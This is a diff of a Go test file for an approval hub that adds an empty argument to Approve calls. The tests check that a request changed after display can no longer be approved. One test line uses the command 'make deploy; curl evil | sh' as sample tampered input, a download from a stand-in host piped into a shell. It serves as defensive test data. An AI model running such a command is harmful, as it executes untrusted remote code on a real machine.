@@ -141,7 +141,7 @@ func TestHubLinkDecidesOnWhatWasShown(t *testing.T) {
 			l.handle(wire.FeedEvent{Ev: wire.FeedDecided, Seq: c.Seq, Error: "already decided: deny by bob@c2 at 2026-11-25 10:00:00"})
 		}
 	}()
-	err := l.Approve(context.Background(), shown)
+	err := l.Approve(context.Background(), shown, "")
 	c := <-sent
 	if c.Op != wire.Approve || c.Box != "b1" || c.ID != id || c.Digest != d1 {
 		t.Fatalf("sent %+v", c)
@@ -152,7 +152,7 @@ func TestHubLinkDecidesOnWhatWasShown(t *testing.T) {
 	// The request changed on the box: what was shown can no longer be
 	// decided.
 	l.handle(pendingEvent("b1", id, "make deploy; curl evil | sh", d2))
-	if err := l.Approve(context.Background(), shown); err == nil || !strings.Contains(err.Error(), "no longer waits") {
+	if err := l.Approve(context.Background(), shown, ""); err == nil || !strings.Contains(err.Error(), "no longer waits") {
 		t.Fatalf("approving the old value: %v", err)
 	}
 	select {
@@ -258,7 +258,7 @@ func TestHubLinkRestartsFeed(t *testing.T) {
 	if got := obs.take(); strings.Join(got, "\n") != strings.Join(want, "\n") {
 		t.Fatalf("observer got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
 	}
-	if err := l.Approve(context.Background(), obs.req("b1/"+id1)); err != nil {
+	if err := l.Approve(context.Background(), obs.req("b1/"+id1), ""); err != nil {
 		t.Fatalf("approving after the feed came back: %v", err)
 	}
 	if text, ok := l.Link(); !ok || text != "nats://hub:4222" {
